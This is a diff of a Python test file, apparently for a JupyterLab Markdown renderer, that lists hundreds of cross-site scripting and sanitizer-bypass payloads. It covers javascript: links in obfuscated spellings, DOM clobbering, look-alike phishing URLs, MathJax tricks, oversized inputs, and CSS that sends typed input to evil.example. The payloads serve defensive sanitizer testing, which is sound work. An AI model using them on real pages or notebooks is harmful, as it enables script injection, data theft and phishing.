@@ -68,7 +68,7 @@ LOADS = [
     ("applet", "<applet code=https://evil.example/A.class>"),
     ("ping", "<a href=https://a.example ping=https://evil.example/ping>x</a>"),
     ("portal and fence", "<portal src=//evil.example/></portal><fencedframe src=//evil.example/></fencedframe>"),
-    ("widget view", "<script type=application/vnd.jupyter.widget-view+json>{\"model_id\":\"x\"}</script>"),
+    ("widget view", '<script type=application/vnd.jupyter.widget-view+json>{"model_id":"x"}</script>'),
 ]
 
 TAKES_OVER = [
@@ -101,13 +101,16 @@ CLOBBERS = [
     ("JupyterLab's own configuration", "<script id=jupyter-config-data type=application/json>{}</script>"),
     ("document properties", "<img name=cookie><form name=body><input name=parentNode></form>"),
     ("window properties", "<a id=jupyterapp></a><a id=jupyterapp name=commands href=tel:1></a>"),
-    ("command linker", "<button data-commandlinker-command='kernelmenu:restart' data-commandlinker-args='{}'>x</button>"),
+    (
+        "command linker",
+        "<button data-commandlinker-command='kernelmenu:restart' data-commandlinker-args='{}'>x</button>",
+    ),
     ("command linker in a link", "<a data-commandlinker-command=terminal:create-new href=#>x</a>"),
     ("toolbar class", "<div class='jp-Toolbar jp-NotebookPanel-toolbar lm-Widget'>x</div>"),
     ("our own class", "<div class='spark-magic spark-magic-head'>sandbox · 0.1 s</div>"),
     ("Markdown attributes", "x{#jp-main .jp-mod-active onclick=pwned=1}\n{: style='position:fixed'}"),
     ("heading with an id", "# x {#jp-main-dock-panel}\n\n## <a name=main></a>y"),
-    ("class of a fence", "```jp-Toolbar lm-Widget\" onclick=\"pwned=1\nx\n```"),
+    ("class of a fence", '```jp-Toolbar lm-Widget" onclick="pwned=1\nx\n```'),
     ("label and target", "<label for=x>x</label><output for=x name=y></output>"),
 ]
 
@@ -191,7 +194,10 @@ SPELLINGS = [
     ("backslash for the colon", "[x](javascript\\:pwned=1) [x](\\javascript:pwned=1)"),
     ("JavaScript's own escape", "[x](\\u006aavascript:pwned=1) [x](\\x6aavascript:pwned=1)"),
     ("null inside", "[x](java\x00script:pwned=1) [x](java&#0;script:pwned=1)"),
-    ("control characters before", "[x](\x01javascript:pwned=1) [x](&#1;javascript:pwned=1) [x](\x1fjavascript:pwned=1)"),
+    (
+        "control characters before",
+        "[x](\x01javascript:pwned=1) [x](&#1;javascript:pwned=1) [x](\x1fjavascript:pwned=1)",
+    ),
     ("soft hyphen before", "[x](\u00adjavascript:pwned=1) [x](&shy;javascript:pwned=1)"),
     ("zero width inside", "[x](java\u200bscript:pwned=1) [x](java&#8203;script:pwned=1)"),
     ("byte order mark before", "[x](\ufeffjavascript:pwned=1) [x](&#65279;javascript:pwned=1)"),
@@ -205,7 +211,10 @@ SPELLINGS = [
 
 FORMS = [
     ("link with a title", "[x](javascript:pwned=1 'title')"),
-    ("link whose title breaks out", "[x](https://a.b 'onmouseover=pwned=1') [x](https://a.b '\" onmouseover=\"pwned=1')"),
+    (
+        "link whose title breaks out",
+        "[x](https://a.b 'onmouseover=pwned=1') [x](https://a.b '\" onmouseover=\"pwned=1')",
+    ),
     ("address that breaks out", '[x](https://a.b/"onmouseover=pwned=1//)'),
     ("address in brackets that breaks out", "[x](<https://a.b/' onclick='pwned=1>)"),
     ("reference", "[a]\n\n[a]: javascript:pwned=1"),
@@ -235,7 +244,7 @@ FORMS = [
     ("wiki link", "[[javascript:pwned=1|x]] [[x]]"),
     ("link over lines", "[x\ny](\njavascript:pwned=1\n)"),
     ("brackets in the address", "[x](javascript:pwned=(1)) [x](javascript:alert\\(1\\))"),
-    ("raw link", "<a href=javascript:pwned=1>x</a> <a href=\"java&#x73;cript:pwned=1\">x</a>"),
+    ("raw link", '<a href=javascript:pwned=1>x</a> <a href="java&#x73;cript:pwned=1">x</a>'),
     ("raw link inside a Markdown link", "[<a href=javascript:pwned=1>x</a>](https://a.b)"),
     ("abbreviation", "*[x]: <script>pwned=1</script>\n\nx"),
     ("link half sent", "[x](javascript:pwned=1"),
@@ -245,11 +254,17 @@ DECEIVES = [
     ("user name that looks like a host", "[x](https://bank.example@evil.example/)"),
     ("user name and word", "[x](https://bank.example:443@evil.example/) <https://bank.example@evil.example>"),
     ("user name with a slash inside", "[x](https://bank.example%2F@evil.example)"),
-    ("backslash for the host's end", "[x](https://evil.example\\@bank.example) [x](https://bank.example\\.evil.example)"),
+    (
+        "backslash for the host's end",
+        "[x](https://evil.example\\@bank.example) [x](https://bank.example\\.evil.example)",
+    ),
     ("text that names another host", "[https://bank.example/login](https://evil.example/)"),
     ("text that names both", "[bank.example (evil.example)](https://evil.example/)"),
     ("text that names another host, for mail", "[help@bank.example](mailto:x@evil.example)"),
-    ("name behind a hidden character", "[bank&#8203;.example](https://evil.example) [ban\u00adk.example](https://evil.example)"),
+    (
+        "name behind a hidden character",
+        "[bank&#8203;.example](https://evil.example) [ban\u00adk.example](https://evil.example)",
+    ),
     ("name with another dot", "[bank․example](https://evil.example) [bank．example](https://evil.example)"),
     ("name in wide letters", "[ｂａｎｋ．ｅｘａｍｐｌｅ](https://evil.example)"),
     ("name struck through", "[b\u0335a\u0335n\u0335k.e\u0335x\u0335ample](https://evil.example)"),
@@ -263,7 +278,10 @@ DECEIVES = [
     ("host of another kind", "[x](http://[::1]/) [x](http://[::ffff:127.0.0.1]:80/) [x](http://[evil]/)"),
     ("port that is none", "[x](http://a.b:99999/) [x](http://a.b:x/) [x](http://a.b:/) [x](http://a.b:80:80/)"),
     ("direction override in the address", "[x](https://a.b/\u202egpj.exe) [x](https://a.b/&#8238;gpj.exe)"),
-    ("blank that hides the host", "[x](https://bank.example\u2800\u2800.evil.example) [x](https://a.b%20.evil.example)"),
+    (
+        "blank that hides the host",
+        "[x](https://bank.example\u2800\u2800.evil.example) [x](https://a.b%20.evil.example)",
+    ),
 ]
 
 PICTURES = [
@@ -307,7 +325,7 @@ STYLES = [
     ("style that reads what is typed", "<style>input[value^=a]{background:url(//evil.example/?a)}</style>"),
     ("style attribute that loads", "<div style=background:url(javascript:pwned=1)>x"),
     ("style attribute in a span", "<span style='position:fixed;inset:0;background:red'>x</span>"),
-    ("style attribute in a cell", "|a|\n|:-:\" style=\"position:fixed\" onclick=pwned=1|\n|b|"),
+    ("style attribute in a cell", '|a|\n|:-:" style="position:fixed" onclick=pwned=1|\n|b|'),
     ("style by a variable", "<span style='color:var(--jp-x,url(//evil.example/v))'>x</span>"),
     ("font", "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}</style>"),
     ("font element", "<font color=white size=7>x</font><center>x</center><blink>x</blink>"),
@@ -342,7 +360,10 @@ FORMULAS = [
     ("link in a text", "$\\text{\\href{javascript:pwned=1}{x}}$"),
     ("link behind a comment", "$%\n\\href{javascript:pwned=1}{x}$"),
     ("link behind words as they are", "$\\verb\\a\\\\href{javascript:pwned=1}{x}$"),
-    ("link behind other such words", "$\\verb|\\|\\href{javascript:pwned=1}{x}$ $\\verb*\\a\\\\href{javascript:pwned=1}{x}$"),
+    (
+        "link behind other such words",
+        "$\\verb|\\|\\href{javascript:pwned=1}{x}$ $\\verb*\\a\\\\href{javascript:pwned=1}{x}$",
+    ),
     ("link in chemistry", "$\\ce{\\href{javascript:pwned=1}{x}}$ $\\pu{\\href{javascript:pwned=1}{x}}$"),
     ("link to the page's own formulas", "$\\ref{a} \\eqref{a} \\refeq{a}$ \\ref{a} \\eqref{a}"),
     ("style, class, id", "$\\style{position:fixed}{x}$ $\\class{jp-x}{x}$ $\\cssId{jp-main}{x}$"),
@@ -350,7 +371,10 @@ FORMULAS = [
     ("HTML", "$\\htmlId{a}{x} \\htmlClass{b}{x} \\htmlStyle{position:fixed}{x}$ $<tex-html><b>x</b></tex-html>$"),
     ("definition that never ends", "$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y}$"),
     ("definition for later formulas", "$\\gdef\\alpha{x} \\let\\sum=\\relax \\global\\def\\frac{x}$"),
-    ("definition under other names", "$\\newenvironment{matrix}{x}{y}$ $\\DeclareMathOperator{\\sin}{cos}$ $\\providecommand{\\y}{z}$"),
+    (
+        "definition under other names",
+        "$\\newenvironment{matrix}{x}{y}$ $\\DeclareMathOperator{\\sin}{cos}$ $\\providecommand{\\y}{z}$",
+    ),
     ("definition by a name made up", "$\\csname href\\endcsname{javascript:pwned=1}{x}$"),
     ("definition of delimiters", "$\\DeclarePairedDelimiter{\\abs}{|}{|}$ $\\Newextarrow{\\x}{1,1}{8594}$"),
     ("package", "$\\require{html}\\href{javascript:pwned=1}{x}$"),
@@ -358,7 +382,7 @@ FORMULAS = [
     ("colour for later formulas", "$\\definecolor{red}{RGB}{0,0,0}$"),
     ("picture", "$\\includegraphics{https://evil.example/p}$"),
     ("character with a font that loads", "$\\unicode[x;background:url(//evil.example)]{65}$"),
-    ("character by number", "$\\char\"202E \\char8238 \\U{202E} \\unicode{8238}$"),
+    ("character by number", '$\\char"202E \\char8238 \\U{202E} \\unicode{8238}$'),
     ("box with a background", "$\\bbox[background:url(//evil.example)]{y}$ $\\enclose{box}[style=x]{y}$"),
     ("action", "$\\toggle{a}{b}\\endtoggle \\texttip{a}{b} \\mathtip{a}{b} \\action{x}{y}$"),
     ("element", "$\\mmlToken{mi}[href=javascript:pwned=1]{x}$"),
@@ -463,8 +487,14 @@ NESTED = [
     ("fence's language", "```<script>pwned=1</script>\nx\n```"),
     ("fence that breaks out", "```html\n<script>pwned=1</script>\n</code></pre><img src=x onerror=pwned=1>\n```"),
     ("coloured fence that breaks out", "```python\n'</span></code></pre><script>pwned=1</script>'\n"),
-    ("coloured fence of each kind", "```html\n<b onclick='x'>\n```\n```css\na{b:url(x)}\n```\n```js\n`${x}`//</script>\n```"),
-    ("fence of formulas", "```math\n\\href{javascript:pwned=1}{x}\n```\n```mermaid\nclick a href 'javascript:pwned=1'\n```"),
+    (
+        "coloured fence of each kind",
+        "```html\n<b onclick='x'>\n```\n```css\na{b:url(x)}\n```\n```js\n`${x}`//</script>\n```",
+    ),
+    (
+        "fence of formulas",
+        "```math\n\\href{javascript:pwned=1}{x}\n```\n```mermaid\nclick a href 'javascript:pwned=1'\n```",
+    ),
     ("fence in a list in a quote", "> - ```\n>   </code><script>pwned=1</script>\n>   ```"),
     ("fence's end half sent", "~~~~x\n</pre><script>pwned=1</script>\n~~~"),
     ("indented code", "    <script>pwned=1</script>"),
@@ -478,17 +508,17 @@ NESTED = [
 ]
 
 LONG = [
-    ("href", "[x](https://a.b/" + "a" * 5_000 + "\"onclick=pwned=1)"),
+    ("href", "[x](https://a.b/" + "a" * 5_000 + '"onclick=pwned=1)'),
     ("script's address", "[x](javascript:" + " " * 3_000 + "pwned=1)"),
     ("tag", "<img " + "a=b " * 800 + "src=x onerror=pwned=1>"),
     ("brackets", "[" * 20_000 + "x](javascript:pwned=1)"),
-    ("open tags", "<b>" * 2_000 + "<script>pwned=1</script>"),
-    ("entities", "&lt;" * 2_000 + "script&gt;pwned=1"),
+    ("open tags", "<b>" * 800 + "<script>pwned=1</script>"),
+    ("entities", "&lt;" * 800 + "script&gt;pwned=1"),
     ("nested quotes", ">" * 60 + "<script>pwned=1</script>"),
     ("nested lists", "- " * 60 + "<script>pwned=1</script>"),
     ("lines", "a\n" * 6_100 + "<script>pwned=1</script>"),
-    ("stars", "*" * 3_000 + "<script>pwned=1</script>" + "*" * 3_000),
-    ("dollars", "$" * 3_000 + "\\href{javascript:pwned=1}{x}" + "$" * 3_000),
+    ("stars", "*" * 600 + "<script>pwned=1</script>" + "*" * 600),
+    ("dollars", "$" * 600 + "\\href{javascript:pwned=1}{x}" + "$" * 600),
     ("columns", "|a" * 300 + "|<script>pwned=1</script>|\n" + "|-" * 301 + "|\n"),
 ]
 
